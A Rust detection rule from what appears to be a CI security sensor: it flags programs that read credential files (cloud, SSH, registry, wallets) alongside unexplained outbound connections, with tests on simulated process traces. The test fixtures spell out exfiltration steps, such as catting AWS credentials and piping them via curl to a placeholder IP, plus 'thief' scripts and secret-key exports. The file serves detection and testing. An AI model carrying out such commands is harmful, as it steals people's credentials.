//! A credential is read by a program that has no business with it, and the same strand of work
//! talks to a destination nothing explains.
//!
//! ## What it sees
//! A credential store (cloud, registry, SSH, agent, browser, wallet … and the `secrets:` of your
//! policy) is opened by a program that does not own it and that the step's text does not name;
//! below the same declared command, before or after, a connection goes to a host that neither the
//! text, nor the nature of the command, nor the policy explains. Three different kinds of stores
//! (or three wallets, three browsers, …) opened by one strand are reported without a connection too,
//! and so is one that a command below a coding agent opens by itself.
//!
//! ## Why it matters
//! A compromised dependency or a hidden instruction takes the job's credentials and sends them
//! away minutes before anyone looks.
//!
//! ## What to do
//! Revoke the credential now. Then find what started the reading program (the chain is in the
//! finding), and give the credential only to the step that needs it.
//!
//! ## Known limits
//! What travelled inside the connection is not seen; the order and the lineage are. A credential
//! kept in an environment variable is not a file and is not covered by this rule.

use super::{Act, Detection, Hit, carried, could_carry, named, sureness};
use crate::catalogue::Store;
use crate::commands;
use crate::divergence::{Effect, Explanation};
use crate::finding::{Confidence, Kind, RuleId, Severity, Technique};
use crate::lineage::{Process, Touch};

pub const DETECTION: Detection = Detection {
    id: RuleId("cred-file-access"),
    severity: Severity::High,
    confidence: Confidence::High,
    techniques: &[Technique("T1552.001"), Technique("T1041")],
    references: &["GHSA-cxm3-wv7p-598c", "CVE-2025-53109"],
    frameworks: &["CICD-SEC-6", "ASI03"],
    remedy: "Revoke this credential, then remove the package or instruction that started the reading program.",
    source: include_str!("cred_file_access.rs"),
    check,
};

/// Kinds of stores one strand may open before the sweep itself is the finding.
const SWEEP: usize = 3;

fn check(act: &Act<'_>) -> Vec<Hit> {
    if act.explanation.reason().is_some() {
        return Vec::new();
    }
    let strand = act.lineage.strand(act.process.key);
    match act.effect {
        Effect::Connect { object, .. } => carried(strand, act)
            .into_iter()
            .map(|read| joined(act, read, act.process.key, object, act.sequence))
            .collect(),
        Effect::Read { path, store, .. } => {
            let read = Touch {
                sequence: act.sequence,
                time: act.time,
                process: act.process.key,
                object: path.clone(),
                store: &store.id,
                title: &store.title,
                by_owner: false,
                is_printable: store.prints,
                is_casual: false,
                is_copy: false,
            };
            // A connection that was open before the read can carry it just as well.
            let mut hits: Vec<Hit> = strand
                .ways_out(act.process.key)
                .filter(|contact| could_carry(act, contact.process))
                .take(1)
                .map(|contact| joined(act, &read, contact.process, &contact.object, contact.sequence))
                .collect();
            if hits.is_empty() {
                hits.extend(sweep(act, path, store));
            }
            if hits.is_empty() {
                hits.extend(by_agent(act, path, store));
            }
            hits
        }
        _ => Vec::new(),
    }
}

fn joined(
    act: &Act<'_>,
    read: &Touch,
    sender: crate::event::ProcessKey,
    destination: &str,
    contact: u64,
) -> Hit {
    let reader = named(act.lineage, read.process);
    let who = if sender == read.process {
        format!("{reader} read {} and connected to {destination}", read.title)
    } else {
        format!("{reader} read {} and {} connected to {destination}", read.title, named(act.lineage, sender))
    };
    Hit {
        rule: &DETECTION,
        kind: Kind::Attack,
        severity: DETECTION.severity,
        confidence: sureness(act, read.process, sender),
        title: format!("{who}, which nothing in this step explains"),
        process: read.process,
        object: read.object.clone(),
        evidence: vec![read.sequence, contact],
        replaces: Some(RuleId("file-undeclared")),
        remedy: None,
    }
}

fn sweep(act: &Act<'_>, path: &str, store: &'static Store) -> Option<Hit> {
    let strand = act.lineage.strand(act.process.key);
    let reads = || strand.reads.iter().filter(|read| !read.by_owner);
    let mut places: Vec<(&str, &str)> =
        reads().map(|read| (read.store, product(act, read.store, &read.object))).collect();
    places.push((store.id.as_str(), product(act, &store.id, path)));
    places.sort_unstable();
    places.dedup();
    if places.len() < SWEEP || matches!(act.explanation, Explanation::Own(_)) {
        return None;
    }
    let mut titles: Vec<&str> =
        reads().map(|read| read.title).filter(|other| *other != store.title).collect();
    titles.sort_unstable();
    titles.dedup();
    if titles.is_empty() {
        titles.push("others of that kind");
    }
    Some(Hit {
        rule: &DETECTION,
        kind: Kind::Attack,
        severity: if act.process.agent.is_some() { Severity::Critical } else { DETECTION.severity },
        confidence: Confidence::Medium,
        title: format!(
            "{} read {} after {}, none of which this step names",
            named(act.lineage, act.process.key),
            store.title,
            titles.join(", ")
        ),
        process: act.process.key,
        object: path.to_owned(),
        evidence: reads().map(|read| read.sequence).collect(),
        replaces: Some(RuleId("file-undeclared")),
        remedy: None,
    })
}

/// Stores that are many products at once: each wallet counts, not the files of one.
const COLLECTIONS: &[&str] = &["wallets", "browsers", "other-cloud", "vault", "gem-tokens", "agent-tokens"];

/// Which product of a store a file belongs to: its first folder below a home.
fn product<'p>(act: &Act<'_>, store: &str, path: &'p str) -> &'p str {
    if !COLLECTIONS.contains(&store) {
        return "";
    }
    let below = |home: &String| path.strip_prefix(home.as_str())?.strip_prefix('/');
    let rest = act.context.all_homes.iter().find_map(below).unwrap_or(path);
    let parts: Vec<&str> = rest.splitn(3, '/').collect();
    match parts[..] {
        [folder @ (".config" | ".local"), name, _] => &rest[..folder.len() + 1 + name.len()],
        [first, ..] => first,
        [] => rest,
    }
}

/// A command that an agent runs opens a store by itself: no build or test of the project stands in between.
fn by_agent(act: &Act<'_>, path: &str, store: &'static Store) -> Option<Hit> {
    act.process.agent.as_deref().filter(|_| !act.process.is_agent)?;
    let is_driver = |process: &Process| {
        let tool = process.tool.and_then(commands::by_id);
        tool.is_some_and(|tool| !matches!(tool.id, "interpreters" | "shells" | "transfer"))
    };
    let above = act.lineage.ancestors(act.process.key).take_while(|above| !above.is_agent);
    if std::iter::once(act.process).chain(above).any(is_driver) || store.id == "history" {
        return None;
    }
    Some(Hit {
        rule: &DETECTION,
        kind: Kind::Divergence,
        severity: Severity::Medium,
        confidence: Confidence::Medium,
        title: format!(
            "{}, which the agent started, read {}, which nothing in this step explains",
            named(act.lineage, act.process.key),
            store.title
        ),
        process: act.process.key,
        object: path.to_owned(),
        evidence: Vec::new(),
        replaces: Some(RuleId("file-undeclared")),
        remedy: None,
    })
}

#[cfg(test)]
mod tests {
    use crate::trace::expect;

    const STOLEN: &[&str] = &[
        "!cred-file-access attack high /home/u/.aws/credentials",
        "!egress-undeclared attack high 203.0.113.7:8443",
    ];

    #[test]
    fn an_install_script_reads_a_credential_and_connects() {
        expect(
            "npm ci\n",
            "1 > 2 launch /usr/bin/node node /usr/bin/npm ci
             2 > 3 launch /usr/bin/dash sh -c node\\ setup.js
             3 > 4 launch /usr/bin/node node setup.js
             4 > 5 launch /usr/bin/dash sh -c x
             5 > 6 launch /usr/bin/cat cat ~/.aws/credentials
             6 read ~/.aws/credentials
             5 > 7 launch /usr/bin/curl curl --data-binary @- http://203.0.113.7:8443/
             7 connect 203.0.113.7:8443",
            STOLEN,
        );
    }

    #[test]
    fn the_same_in_the_other_order_and_in_one_process() {
        expect(
            "make all\n",
            "1 > 2 launch /usr/bin/make make all
             2 > 3 launch /usr/bin/python3.11 python3 gen.py
             3 connect 203.0.113.7:8443
             3 read ~/.aws/credentials",
            STOLEN,
        );
    }

    #[test]
    fn detached_and_with_a_borrowed_name_it_is_the_same() {
        expect(
            "pip install ./vendored\n",
            "1 > 2 launch /usr/bin/python3.11 python3 /usr/bin/pip install ./vendored
             2 > 3 launch /usr/bin/python3.11 python3 /w/hook.py
             3 > 4
             4 > 5 launch /tmp/aws aws s3 ls
             3 exit
             4 exit
             5 read ~/.aws/credentials
             5 connect 203.0.113.7:8443",
            &[STOLEN[0], STOLEN[1], "!sensor-evasion attack high /home/u/.aws/credentials"],
        );
    }

    #[test]
    fn three_kinds_of_stores_in_one_strand_are_a_sweep() {
        expect(
            "npm ci\n",
            "1 > 2 launch /usr/bin/node node /usr/bin/npm ci
             2 > 3 launch /usr/bin/node node collect.js
             3 read ~/.aws/credentials
             3 read ~/.ssh/id_ed25519
             3 read ~/.kube/config",
            &[
                "!cred-file-access attack high /home/u/.kube/config",
                "file-undeclared divergence low /home/u/.aws/credentials",
                "file-undeclared divergence low /home/u/.ssh/id_ed25519",
            ],
        );
    }

    #[test]
    fn a_backup_of_a_home_that_the_step_names_is_no_sweep_until_it_leaves() {
        let reads =
            "2 read ~/.aws/credentials\n2 read ~/.ssh/id_ed25519\n2 read ~/.kube/config\n2 read ~/.npmrc\n";
        let step = "tar -czf /srv/home.tgz -C \"$HOME\" .\n";
        let tar = "1 > 2 launch /usr/bin/tar tar -czf /srv/home.tgz -C /home/u .\n";
        expect(step, &format!("{tar}{reads}"), &[]);
        // It goes somewhere that nothing names; a program of the job's own, and what the project's code calls.
        for (step, trace) in [
            (step, format!("{tar}{reads}2 connect 203.0.113.7:8443")),
            ("/w/pack \"$HOME\"\n", format!("1 > 2 launch /w/pack pack /home/u\n{reads}")),
            (
                "python3 pack.py \"$HOME\"\n",
                format!("1 > 2 launch /usr/bin/python3.11 python3 pack.py /home/u\n{reads}"),
            ),
            (
                "make x\n",
                format!(
                    "1 > 3 launch /usr/bin/make make x\n3 > 2 launch /usr/bin/tar tar -cz /home/u\n{reads}"
                ),
            ),
        ] {
            let lines = crate::trace::findings(step, "", &trace);
            assert!(lines.iter().any(|line| line.starts_with("!cred-file-access")), "{trace}: {lines:?}");
        }
    }

    #[test]
    fn owners_and_declared_reads_stay_quiet() {
        // npm reads its own token and asks its registry; git its credential and its remote.
        expect(
            "npm ci\ngit push origin main\naws s3 sync out s3://bucket\n",
            "answer registry.example 203.0.113.10
             answer s3.example 203.0.113.12
             1 > 2 launch /usr/bin/node node /usr/bin/npm ci
             2 read ~/.npmrc
             2 connect 203.0.113.10:443
             1 > 3 launch /usr/bin/git git push origin main
             3 > 4 launch /usr/lib/git-core/git-remote-https git-remote-https origin
             4 read ~/.git-credentials
             4 connect 203.0.113.11:443
             1 > 5 launch /usr/local/bin/aws aws s3 sync out s3://bucket
             5 read ~/.aws/credentials
             5 connect 203.0.113.12:443",
            &[],
        );
        // The text names both ends.
        expect(
            "curl --data-binary @$HOME/.aws/credentials https://vault.example/store\n",
            "answer vault.example 203.0.113.7
             1 > 2 launch /usr/bin/curl curl x
             2 read ~/.aws/credentials
             2 connect 203.0.113.7:443",
            &[],
        );
    }

    #[test]
    fn reading_without_sending_and_sending_without_reading_are_notes() {
        expect(
            "npm test\n",
            "1 > 2 launch /usr/bin/node node /usr/bin/npm test
             2 > 3 launch /usr/bin/node node node_modules/jest/bin/jest.js
             3 read ~/.aws/credentials",
            &["file-undeclared divergence low /home/u/.aws/credentials"],
        );
        expect(
            "npm test\n",
            "1 > 2 launch /usr/bin/node node /usr/bin/npm test
             2 > 3 launch /usr/bin/node node node_modules/jest/bin/jest.js
             3 connect 203.0.113.7:443",
            &["egress-undeclared divergence low 203.0.113.7:443"],
        );
    }

    #[test]
    fn an_installer_that_asks_npm_and_downloads_is_no_thief() {
        expect(
            "npm ci\n",
            "answer registry.example 203.0.113.10
             answer downloads.example 203.0.113.20
             1 > 2 launch /usr/bin/node node /usr/bin/npm ci
             2 read ~/.npmrc
             2 connect 203.0.113.10:443
             2 > 3 launch /usr/bin/dash sh -c node\\ install.js
             3 > 4 launch /usr/bin/node node install.js
             4 > 5 launch /usr/bin/node node /usr/bin/npm install esbuild-linux
             5 read ~/.npmrc
             5 connect 203.0.113.10:443
             4 connect 203.0.113.20:443",
            &["egress-undeclared divergence low downloads.example:443"],
        );
    }

    const JOINED: &[&str] = &[
        "!cred-file-access attack high /home/u/.aws/credentials",
        "!egress-undeclared attack high 203.0.113.7:443",
    ];

    #[test]
    fn a_client_that_takes_what_is_not_its_own_chooses_no_more() {
        // A plug-in, a preloaded library, NODE_OPTIONS: the code runs inside npm itself.
        expect(
            "npm ci\n",
            "answer registry.example 203.0.113.10
             1 > 2 launch /usr/bin/node node /usr/bin/npm ci
             2 connect 203.0.113.10:443
             2 read ~/.aws/credentials
             2 connect 203.0.113.10:443
             2 connect 203.0.113.7:443",
            JOINED,
        );
    }

    #[test]
    fn a_name_by_option_module_or_link_is_no_identity() {
        for thief in [
            "/usr/bin/python3.11 python3 -X aws thief.py",
            "/usr/bin/python3.11 python3 -W pip thief.py",
            "/usr/bin/python3.11 python3 -m aws",
            "/usr/bin/python3.11 python3 aws",
            "/usr/bin/python3.11 python3 -cimport\\ os /usr/bin/aws",
            "/usr/bin/node node --require=./evil.js /usr/bin/aws",
            "/usr/bin/bash bash -ec x /usr/bin/aws",
            "/w/aws aws s3 ls",
        ] {
            expect(
                "make all\n",
                &format!(
                    "1 > 2 launch /usr/bin/make make all
                     2 > 3 launch {thief}
                     3 read ~/.aws/credentials
                     3 connect 203.0.113.7:443"
                ),
                JOINED,
            );
        }
    }

    #[test]
    fn a_copy_is_followed_into_the_next_command() {
        expect(
            "npm ci\nnpm test\n",
            "1 > 2 launch /usr/bin/node node /usr/bin/npm ci
             2 > 3 launch /usr/bin/cp cp x y
             3 read ~/.aws/credentials
             3 create /tmp/cache-1
             2 exit
             3 rename /tmp/cache-1 /w/.cache
             1 > 4 launch /usr/bin/node node /usr/bin/npm test
             4 > 5 launch /usr/bin/node node report.js
             5 read /w/.cache
             5 connect 203.0.113.7:443",
            JOINED,
        );
        // The twin: the second command reads what the first one made of ordinary files.
        expect(
            "npm ci\nnpm test\n",
            "1 > 2 launch /usr/bin/node node /usr/bin/npm ci
             2 > 3 launch /usr/bin/cp cp x y
             3 read /w/x
             3 create /w/y
             1 > 4 launch /usr/bin/node node /usr/bin/npm test
             4 > 5 launch /usr/bin/node node report.js
             5 read /w/y",
            &[],
        );
    }

    #[test]
    fn what_is_taken_follows_an_outlet_that_was_open_before_and_whoever_waits_at_it() {
        // The shell's redirect comes first: `cat ~/.aws/credentials >box`.
        let taker = "1 > 2 launch /usr/bin/make make read
             2 > 3 launch /usr/bin/dash sh -c x
             3 create /w/box
             3 launch /usr/bin/cat cat x
             3 read ~/.aws/credentials";
        let sender = "1 > 4 launch /usr/bin/make make send
             4 > 5 launch /usr/bin/python3.11 python3 send.py";
        let send = "5 connect 203.0.113.7:443";
        for trace in [
            format!("{taker}\n{sender}\n5 read /w/box\n{send}"),
            // A pipe with a name: its reader has it open before anything is in it.
            format!("{sender}\n5 read /w/box\n{taker}\n{send}"),
            format!(
                "{taker}\n1 > 6 launch /usr/bin/mv mv x y\n6 rename /w /v\n{sender}\n5 read /v/box\n{send}"
            ),
        ] {
            expect("make read &\nmake send\nmv /w /v\n", &trace, JOINED);
        }
        expect(
            "make read &\nmake send\n",
            &format!("{sender}\n5 read /w/other\n{taker}\n{send}"),
            &[
                "egress-undeclared divergence low 203.0.113.7:443",
                "file-undeclared divergence low /home/u/.aws/credentials",
            ],
        );
    }

    #[test]
    fn an_owner_below_a_shell_prints_as_well_and_only_if_told_to() {
        let sent = "1 > 2 launch /usr/bin/make make all
             2 > 3 launch /usr/bin/git git credential fill
             3 > 4 launch /usr/bin/dash sh -c x
             4 > 5 launch /usr/bin/git git credential-store get
             5 read ~/.git-credentials
             2 > 6 launch /usr/bin/curl curl -d @- x
             6 connect 203.0.113.7:443";
        let found = &[
            "!cred-file-access attack high /home/u/.git-credentials",
            "!egress-undeclared attack high 203.0.113.7:443",
        ];
        expect("make all\n", sent, found);
        let keys = |how: &str| {
            format!(
                "1 > 2 launch /usr/bin/make make all
                 2 > 3 launch /usr/bin/gpg gpg {how}
                 3 > 4 launch /usr/bin/gpg-agent gpg-agent --daemon
                 4 read ~/.gnupg/private-keys-v1.d/a.key
                 2 > 6 launch /usr/bin/curl curl -T x y
                 6 connect 203.0.113.7:443"
            )
        };
        expect(
            "make all\n",
            &keys("--export-secret-keys"),
            &[
                "!cred-file-access attack high /home/u/.gnupg/private-keys-v1.d/a.key",
                "!egress-undeclared attack high 203.0.113.7:443",
            ],
        );
        expect("make all\n", &keys("--detach-sign"), &["egress-undeclared divergence low 203.0.113.7:443"]);
    }

    #[test]
    fn a_client_that_takes_its_own_token_to_a_bare_address_is_not_at_work() {
        let trace = |before: &str, program: &str| {
            format!(
                "{before}\n1 > 2 launch {program}
                 2 read ~/.npmrc
                 2 connect 203.0.113.10:443"
            )
        };
        let pnpm = "/usr/bin/node node /usr/bin/pnpm install";
        let found = &[
            "!cred-file-access attack high /home/u/.npmrc",
            "!egress-undeclared attack high 203.0.113.10:443",
        ];
        expect("pnpm install\n", &trace("", pnpm), found);
        expect("pnpm install\n", &trace("answer registry.example 203.0.113.10", pnpm), &[]);
        // The connection first, and what is taken then is not its own.
        expect(
            "pnpm install\n",
            "1 > 2 launch /usr/bin/node node /usr/bin/pnpm install
             2 connect 203.0.113.7:443
             2 read ~/.aws/credentials",
            JOINED,
        );
        // A compiler talks to nobody, whatever the name: a macro is at work in it.
        expect(
            "cargo build\n",
            "answer crates.example 203.0.113.10
             1 > 2 launch /usr/bin/cargo cargo build
             2 > 3 launch /usr/bin/rustc rustc src/main.rs
             3 read ~/.cargo/credentials.toml
             3 connect 203.0.113.10:443",
            &[
                "!cred-file-access attack high /home/u/.cargo/credentials.toml",
                "!egress-undeclared attack high crates.example:443",
            ],
        );
    }

    #[test]
    fn a_sender_that_connected_first_and_waits_is_found() {
        expect(
            "make all\n",
            "1 > 2 launch /usr/bin/make make all
             2 > 3 launch /usr/bin/python3.11 python3 send.py
             3 connect 203.0.113.7:443
             2 > 4 launch /usr/bin/cat cat x
             4 read ~/.aws/credentials",
            JOINED,
        );
    }

    #[test]
    fn an_owner_that_prints_for_a_stranger_is_found_and_one_at_work_is_not() {
        expect(
            "make all\n",
            "1 > 2 launch /usr/bin/make make all
             2 > 3 launch /usr/bin/gh gh auth token
             3 read ~/.config/gh/hosts.yml
             2 > 4 launch /usr/bin/curl curl -d @- x
             4 connect 203.0.113.7:443",
            &[
                "!cred-file-access attack high /home/u/.config/gh/hosts.yml",
                "!egress-undeclared attack high 203.0.113.7:443",
            ],
        );
        expect(
            "make all\n",
            "1 > 2 launch /usr/bin/make make all
             2 > 3 launch /usr/bin/git git credential fill
             3 > 4 launch /usr/bin/git git credential-store get
             4 read ~/.git-credentials
             2 > 5 launch /usr/bin/curl curl -d @- x
             5 connect 203.0.113.7:443",
            &[
                "!cred-file-access attack high /home/u/.git-credentials",
                "!egress-undeclared attack high 203.0.113.7:443",
            ],
        );
        // wget opens ~/.netrc whomever it talks to.
        expect(
            "make all\n",
            "1 > 2 launch /usr/bin/make make all
             2 > 3 launch /usr/bin/wget wget x
             3 read ~/.netrc
             3 connect 203.0.113.20:443",
            &["egress-undeclared divergence low 203.0.113.20:443"],
        );
        // git fetches with its credential, then the recipe downloads something else.
        expect(
            "make all\n",
            "1 > 2 launch /usr/bin/make make all
             2 > 3 launch /usr/bin/git git fetch
             3 > 4 launch /usr/lib/git-core/git-remote-https git-remote-https origin
             4 > 5 launch /usr/bin/git git credential-store get
             5 read ~/.git-credentials
             4 connect 203.0.113.10:443
             2 > 6 launch /usr/bin/curl curl -O x
             6 connect 203.0.113.20:443",
            &["egress-undeclared divergence low 203.0.113.20:443"],
        );
    }

    #[test]
    fn a_credential_at_its_own_service_stays_a_note() {
        expect(
            "python3 deploy.py\n",
            "answer s3.eu-central-1.amazonaws.com 203.0.113.30
             1 > 2 launch /usr/bin/python3 python3 deploy.py
             2 read ~/.aws/credentials
             2 connect 203.0.113.30:443",
            &[
                "egress-undeclared divergence low s3.eu-central-1.amazonaws.com:443",
                "file-undeclared divergence low /home/u/.aws/credentials",
            ],
        );
    }

    #[test]
    fn pip_of_a_fresh_environment_and_database_clients_are_at_work() {
        expect(
            "python3 -m venv .venv\npip install six\npsql -f schema.sql\nwget -q https://files.example/x\n",
            "answer index.example 203.0.113.31
             1 > 2 launch /usr/bin/python3 python3 -m venv .venv
             2 > 3 launch /usr/bin/python3 python3 -c ensurepip
             3 create /w/.venv/bin/pip
             3 create /w/.venv/lib/python3/site-packages/pip/__pip-runner__.py
             1 > 4 launch /usr/bin/python3 python3 /w/.venv/bin/pip install six
             4 read ~/.netrc
             4 connect 203.0.113.31:443
             4 > 8 launch /usr/bin/python3 /w/.venv/bin/python3 /w/.venv/lib/python3/site-packages/pip/__pip-runner__.py install
             8 read ~/.netrc
             8 connect 203.0.113.34:443
             1 > 5 launch /usr/bin/psql psql -f schema.sql
             5 read ~/.pgpass
             5 connect 203.0.113.32:5432
             1 > 6 launch /usr/bin/wget wget -q x
             6 read ~/.netrc
             6 connect 203.0.113.33:443",
            &["egress-undeclared divergence low 203.0.113.32:5432"],
        );
        // A package that replaces the environment's pip does not become pip.
        expect(
            "python3 -m venv .venv\npip install six\nmake\n",
            "1 > 2 launch /usr/bin/python3 python3 -m venv .venv
             2 create /w/.venv/bin/pip
             1 > 4 launch /usr/bin/python3 python3 /w/.venv/bin/pip install six
             4 > 5 launch /usr/bin/python3 python3 setup.py
             5 create /w/.venv/bin/pip
             1 > 6 launch /usr/bin/make make
             6 > 7 launch /usr/bin/python3 python3 /w/.venv/bin/pip
             7 read ~/.pypirc
             7 connect 203.0.113.7:443",
            &[
                "!cred-file-access attack high /home/u/.pypirc",
                "!egress-undeclared attack high 203.0.113.7:443",
            ],
        );
    }

    #[test]
    fn a_path_that_the_text_names_for_one_command_excuses_no_other() {
        expect(
            "echo \"//npm.example/:_authToken=$TOKEN\" > ~/.npmrc\nnpm ci\n",
            "1 > 2 launch /usr/bin/node node /usr/bin/npm ci
             2 read ~/.npmrc
             2 > 3 launch /usr/bin/node node setup.js
             3 read ~/.npmrc
             3 connect 203.0.113.7:443",
            &[
                "!cred-file-access attack high /home/u/.npmrc",
                "!egress-undeclared attack high 203.0.113.7:443",
            ],
        );
    }

    #[test]
    fn a_test_runner_opens_what_any_script_of_its_interpreter_opens() {
        // python-requests looks into ~/.netrc for every host, in a test as anywhere.
        expect(
            "pytest -q\n",
            "1 > 2 launch /usr/bin/python3 python3 /usr/bin/pytest -q
             2 read ~/.netrc
             2 connect 203.0.113.7:80",
            &["egress-undeclared divergence low 203.0.113.7:80"],
        );
        expect(
            "pytest -q\n",
            "1 > 2 launch /usr/bin/python3 python3 /usr/bin/pytest -q
             2 read ~/.aws/credentials
             2 connect 203.0.113.7:80",
            &[
                "!cred-file-access attack high /home/u/.aws/credentials",
                "!egress-undeclared attack high 203.0.113.7:80",
            ],
        );
    }

    #[test]
    fn what_any_script_may_open_is_not_its_interpreters_clients() {
        // pnpm has no business in ~/.netrc, though a script of the same node has.
        expect(
            "pnpm install\n",
            "1 > 2 launch /usr/bin/node node /usr/bin/pnpm install
             2 read ~/.netrc
             2 connect 203.0.113.7:443",
            &[
                "!cred-file-access attack high /home/u/.netrc",
                "!egress-undeclared attack high 203.0.113.7:443",
            ],
        );
        expect(
            "node /usr/lib/fetch/fetch.js api.example.com\npip install x\n",
            "answer api.example.com 203.0.113.7
             1 > 2 launch /usr/bin/node node /usr/lib/fetch/fetch.js api.example.com
             2 read ~/.netrc
             2 connect 203.0.113.7:443
             1 > 3 launch /usr/bin/python3 python3 /usr/bin/pip install x
             3 read ~/.netrc
             3 connect 203.0.113.8:443",
            &[],
        );
    }

    #[test]
    fn a_real_client_that_a_recipe_calls_after_the_theft_is_no_excuse() {
        expect(
            "make all\n",
            "1 > 2 launch /usr/bin/make make all
             2 > 3 launch /usr/bin/cp cp a b
             3 read ~/.aws/credentials
             3 create /w/notes.txt
             2 > 4 launch /usr/bin/git git push http://203.0.113.7/x.git
             4 > 5 launch /usr/lib/git-core/git-remote-http git-remote-http x
             5 connect 203.0.113.7:443",
            &[
                "!cred-file-access attack high /home/u/.aws/credentials",
                "!egress-allowed-host-exfil attack critical git push http://203.0.113.7/x.git",
                "!egress-undeclared attack high 203.0.113.7:443",
            ],
        );
    }

    #[test]
    fn wallets_count_one_by_one_and_the_files_of_one_do_not() {
        let lines = crate::trace::findings(
            "make all\n",
            "",
            "1 > 2 launch /usr/bin/make make all
             2 > 3 launch /usr/bin/python3.11 python3 x.py
             3 read ~/.bitcoin/wallet.dat
             3 read ~/.config/solana/id.json
             3 read ~/.electrum/wallets/default",
        );
        assert!(
            lines.contains(&"!cred-file-access attack high /home/u/.electrum/wallets/default".to_owned()),
            "{lines:?}"
        );
        let lines = crate::trace::findings(
            "make all\n",
            "",
            "1 > 2 launch /usr/bin/make make all
             2 > 3 launch /usr/bin/python3.11 python3 x.py
             3 read ~/.bitcoin/wallet.dat
             3 read ~/.bitcoin/wallets/a
             3 read ~/.bitcoin/wallets/b
             3 read ~/.aws/config
             3 read ~/.aws/credentials",
        );
        assert!(lines.iter().all(|line| line.contains(" low ")), "{lines:?}");
    }

    #[test]
    fn a_command_of_an_agent_opens_a_store_by_itself() {
        let below = |command: &str| {
            format!(
                "1 > 2 agent codex
                 2 launch /usr/local/bin/codex codex exec x
                 2 > 3 launch /usr/bin/bash bash -c x
                 {command}"
            )
        };
        let lines = crate::trace::findings(
            "codex exec x\n",
            "",
            &below("3 > 4 launch /usr/bin/node node -e x\n4 read ~/.kube/config"),
        );
        assert!(
            lines.contains(&"cred-file-access divergence medium /home/u/.kube/config".to_owned()),
            "{lines:?}"
        );
        // Its owner, and a test that the agent runs.
        for command in [
            "3 > 4 launch /usr/bin/kubectl kubectl get pods\n4 read ~/.kube/config",
            "3 > 4 launch /usr/bin/node node /usr/bin/npm test\n4 > 5 launch /usr/bin/node node t.js\n5 read ~/.kube/config",
        ] {
            let lines = crate::trace::findings("codex exec x\n", "", &below(command));
            assert!(lines.iter().all(|line| line.contains(" low ")), "{command}: {lines:?}");
        }
    }
}
